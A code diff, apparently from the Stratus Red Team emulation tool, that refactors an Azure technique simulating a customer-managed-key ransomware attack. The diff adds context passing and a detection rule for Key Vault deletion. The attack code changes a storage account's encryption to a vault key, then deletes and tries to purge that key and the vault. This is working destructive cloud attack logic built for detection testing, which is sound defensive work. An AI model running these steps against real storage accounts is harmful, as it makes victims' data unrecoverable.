@@ -146,15 +146,23 @@ Sample Key Vault audit event for key deletion:
 }
 ` + CodeBlock + `
 `,
-		Platform:                   stratus.Azure,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Impact},
+		Impact:                stratus.ImpactDestructive,
+		Platform:              stratus.Azure,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Impact},
+		MitreAttackTechniques: []string{"T1486"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"operationName": {"Microsoft.KeyVault/vaults/delete"}},
+			},
+			FalsePositives: []string{"Decommissioning of key vaults"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
+		DetonateWithContext:        detonate,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	storageAccount := params["storage_account_name"]
 	resourceGroup := params["resource_group_name"]
 	keyVaultName := params["key_vault_name"]
@@ -164,41 +172,41 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 
 	log.Println("Simulating a CMK ransomware attack on storage account " + storageAccount)
 
-	blobClient, err := utils.GetAzureBlobClient(blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
+	blobClient, err := utils.GetAzureBlobClient(ctx, blobServiceURL, azureConfig.SubscriptionID, azureConfig.GetCredentials(), azureConfig.ClientOptions, params)
 	if err != nil {
 		return fmt.Errorf("failed to instantiate Blob Client: %w", err)
 	}
 
-	if err := createFakeBlobs(blobClient); err != nil {
+	if err := createFakeBlobs(ctx, blobClient); err != nil {
 		return fmt.Errorf("failed to create fake blobs: %w", err)
 	}
 
-	vaultLocation, err := enablePurgeProtection(azureConfig, resourceGroup, keyVaultName)
+	vaultLocation, err := enablePurgeProtection(ctx, azureConfig, resourceGroup, keyVaultName)
 	if err != nil {
 		return fmt.Errorf("failed to enable purge protection: %w", err)
 	}
 
-	if err := createKeyVaultKey(azureConfig, resourceGroup, keyVaultName); err != nil {
+	if err := createKeyVaultKey(ctx, azureConfig, resourceGroup, keyVaultName); err != nil {
 		return fmt.Errorf("failed to create key vault key: %w", err)
 	}
 
-	if err := updateStorageAccountEncryption(azureConfig, resourceGroup, storageAccount, keyVaultName); err != nil {
+	if err := updateStorageAccountEncryption(ctx, azureConfig, resourceGroup, storageAccount, keyVaultName); err != nil {
 		return fmt.Errorf("failed to update storage account encryption to CMK: %w", err)
 	}
 
-	if err := deleteKeyVaultKey(azureConfig, keyVaultName); err != nil {
+	if err := deleteKeyVaultKey(ctx, azureConfig, keyVaultName); err != nil {
 		return fmt.Errorf("failed to delete key vault key: %w", err)
 	}
 
-	if err := attemptPurgeKey(azureConfig, keyVaultName); err != nil {
+	if err := attemptPurgeKey(ctx, azureConfig, keyVaultName); err != nil {
 		return fmt.Errorf("failed to attempt key purge: %w", err)
 	}
 
-	if err := deleteKeyVault(azureConfig, resourceGroup, keyVaultName); err != nil {
+	if err := deleteKeyVault(ctx, azureConfig, resourceGroup, keyVaultName); err != nil {
 		return fmt.Errorf("failed to delete key vault: %w", err)
 	}
 
-	if err := attemptPurgeKeyVault(azureConfig, keyVaultName, vaultLocation); err != nil {
+	if err := attemptPurgeKeyVault(ctx, azureConfig, keyVaultName, vaultLocation); err != nil {
 		return fmt.Errorf("failed to attempt key vault purge: %w", err)
 	}
 
@@ -206,7 +214,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func createFakeBlobs(client *azblob.Client) error {
+func createFakeBlobs(ctx context.Context, client *azblob.Client) error {
 	log.Printf("Creating %d fake blobs across %d containers", numFiles, numContainers)
 
 	for i := 0; i < numFiles; i++ {
@@ -230,7 +238,7 @@ func createFakeBlobs(client *azblob.Client) error {
 		content := make([]byte, contentSize)
 		rand.Read(content)
 
-		_, err := client.UploadBuffer(context.Background(), containerName, blobName, content, nil)
+		_, err := client.UploadBuffer(ctx, containerName, blobName, content, nil)
 		if err != nil {
 			return fmt.Errorf("failed to upload blob %s to container %s: %w", blobName, containerName, err)
 		}
@@ -240,7 +248,7 @@ func createFakeBlobs(client *azblob.Client) error {
 	return nil
 }
 
-func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVaultName string) (string, error) {
+func enablePurgeProtection(ctx context.Context, azure *providers.AzureProvider, resourceGroup, keyVaultName string) (string, error) {
 	vaultsClient, err := getVaultsClient(azure)
 	if err != nil {
 		return "", fmt.Errorf("failed to create vaults client: %w", err)
@@ -248,14 +256,14 @@ func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVau
 
 	log.Printf("Enabling purge protection on Key Vault: %s", keyVaultName)
 
-	vault, err := vaultsClient.Get(context.Background(), resourceGroup, keyVaultName, nil)
+	vault, err := vaultsClient.Get(ctx, resourceGroup, keyVaultName, nil)
 	if err != nil {
 		return "", fmt.Errorf("failed to get key vault: %w", err)
 	}
 
 	vaultLocation := *vault.Location
 
-	poller, err := vaultsClient.BeginCreateOrUpdate(context.Background(), resourceGroup, keyVaultName, armkeyvault.VaultCreateOrUpdateParameters{
+	poller, err := vaultsClient.BeginCreateOrUpdate(ctx, resourceGroup, keyVaultName, armkeyvault.VaultCreateOrUpdateParameters{
 		Location: vault.Location,
 		Properties: &armkeyvault.VaultProperties{
 			TenantID:                  vault.Properties.TenantID,
@@ -271,7 +279,7 @@ func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVau
 		return "", fmt.Errorf("failed to enable purge protection: %w", err)
 	}
 
-	_, err = poller.PollUntilDone(context.Background(), &runtime.PollUntilDoneOptions{Frequency: 2 * time.Second})
+	_, err = poller.PollUntilDone(ctx, &runtime.PollUntilDoneOptions{Frequency: 2 * time.Second})
 	if err != nil {
 		return "", fmt.Errorf("failed to poll key vault update: %w", err)
 	}
@@ -280,14 +288,14 @@ func enablePurgeProtection(azure *providers.AzureProvider, resourceGroup, keyVau
 	return vaultLocation, nil
 }
 
-func createKeyVaultKey(azure *providers.AzureProvider, resourceGroup, keyVaultName string) error {
+func createKeyVaultKey(ctx context.Context, azure *providers.AzureProvider, resourceGroup, keyVaultName string) error {
 	keysClient, err := getManagementKeysClient(azure)
 	if err != nil {
 		return fmt.Errorf("failed to create keys client: %w", err)
 	}
 
 	log.Printf("Creating RSA 2048 key in Key Vault: %s", keyVaultName)
-	result, err := keysClient.CreateIfNotExist(context.Background(), resourceGroup, keyVaultName, KeyName, armkeyvault.KeyCreateParameters{
+	result, err := keysClient.CreateIfNotExist(ctx, resourceGroup, keyVaultName, KeyName, armkeyvault.KeyCreateParameters{
 		Properties: &armkeyvault.KeyProperties{
 			Kty:     to.Ptr(armkeyvault.JSONWebKeyTypeRSA),
 			KeySize: to.Ptr(int32(2048)),
@@ -301,7 +309,7 @@ func createKeyVaultKey(azure *providers.AzureProvider, resourceGroup, keyVaultNa
 	return nil
 }
 
-func updateStorageAccountEncryption(azure *providers.AzureProvider, resourceGroup, storageAccount, keyVaultName string) error {
+func updateStorageAccountEncryption(ctx context.Context, azure *providers.AzureProvider, resourceGroup, storageAccount, keyVaultName string) error {
 	accountsClient, err := getStorageAccountsClient(azure)
 	if err != nil {
 		return fmt.Errorf("failed to create storage accounts client: %w", err)
@@ -310,7 +318,7 @@ func updateStorageAccountEncryption(azure *providers.AzureProvider, resourceGrou
 	keyVaultURI := fmt.Sprintf("https://%s.vault.azure.net", keyVaultName)
 
 	log.Printf("Updating storage account %s encryption to use Customer-Managed Key from Key Vault %s", storageAccount, keyVaultName)
-	_, err = accountsClient.Update(context.Background(), resourceGroup, storageAccount, armstorage.AccountUpdateParameters{
+	_, err = accountsClient.Update(ctx, resourceGroup, storageAccount, armstorage.AccountUpdateParameters{
 		Properties: &armstorage.AccountPropertiesUpdateParameters{
 			Encryption: &armstorage.Encryption{
 				KeySource: to.Ptr(armstorage.KeySourceMicrosoftKeyvault),
@@ -329,14 +337,14 @@ func updateStorageAccountEncryption(azure *providers.AzureProvider, resourceGrou
 	return nil
 }
 
-func deleteKeyVaultKey(azure *providers.AzureProvider, keyVaultName string) error {
+func deleteKeyVaultKey(ctx context.Context, azure *providers.AzureProvider, keyVaultName string) error {
 	keysClient, err := getDataPlaneKeysClient(azure, keyVaultName)
 	if err != nil {
 		return fmt.Errorf("failed to create data plane keys client: %w", err)
 	}
 
 	log.Printf("Soft-deleting key: %s from vault: %s", KeyName, keyVaultName)
-	_, err = keysClient.DeleteKey(context.Background(), KeyName, nil)
+	_, err = keysClient.DeleteKey(ctx, KeyName, nil)
 	if err != nil {
 		var respErr *azcore.ResponseError
 		if errors.As(err, &respErr) && respErr.StatusCode == 403 {
@@ -349,14 +357,14 @@ func deleteKeyVaultKey(azure *providers.AzureProvider, keyVaultName string) erro
 	return nil
 }
 
-func attemptPurgeKey(azure *providers.AzureProvider, keyVaultName string) error {
+func attemptPurgeKey(ctx context.Context, azure *providers.AzureProvider, keyVaultName string) error {
 	keysClient, err := getDataPlaneKeysClient(azure, keyVaultName)
 	if err != nil {
 		return fmt.Errorf("failed to create data plane keys client: %w", err)
 	}
 
 	log.Printf("Attempting to purge deleted key: %s from vault: %s", KeyName, keyVaultName)
-	_, err = keysClient.PurgeDeletedKey(context.Background(), KeyName, nil)
+	_, err = keysClient.PurgeDeletedKey(ctx, KeyName, nil)
 	if err != nil {
 		log.Printf("Key purge failed as expected (purge protection enabled)")
 		return nil
@@ -366,14 +374,14 @@ func attemptPurgeKey(azure *providers.AzureProvider, keyVaultName string) error
 	return nil
 }
 
-func deleteKeyVault(azure *providers.AzureProvider, resourceGroup, keyVaultName string) error {
+func deleteKeyVault(ctx context.Context, azure *providers.AzureProvider, resourceGroup, keyVaultName string) error {
 	vaultsClient, err := getVaultsClient(azure)
 	if err != nil {
 		return fmt.Errorf("failed to create vaults client: %w", err)
 	}
 
 	log.Printf("Soft-deleting Key Vault: %s", keyVaultName)
-	_, err = vaultsClient.Delete(context.Background(), resourceGroup, keyVaultName, nil)
+	_, err = vaultsClient.Delete(ctx, resourceGroup, keyVaultName, nil)
 	if err != nil {
 		return fmt.Errorf("failed to delete key vault: %w", err)
 	}
@@ -382,14 +390,14 @@ func deleteKeyVault(azure *providers.AzureProvider, resourceGroup, keyVaultName
 	return nil
 }
 
-func attemptPurgeKeyVault(azure *providers.AzureProvider, keyVaultName, location string) error {
+func attemptPurgeKeyVault(ctx context.Context, azure *providers.AzureProvider, keyVaultName, location string) error {
 	vaultsClient, err := getVaultsClient(azure)
 	if err != nil {
 		return fmt.Errorf("failed to create vaults client: %w", err)
 	}
 
 	log.Printf("Attempting to purge deleted Key Vault: %s", keyVaultName)
-	_, err = vaultsClient.BeginPurgeDeleted(context.Background(), keyVaultName, location, nil)
+	_, err = vaultsClient.BeginPurgeDeleted(ctx, keyVaultName, location, nil)
 	if err != nil {
 		log.Printf("Key Vault purge failed as expected (purge protection enabled)")
 		return nil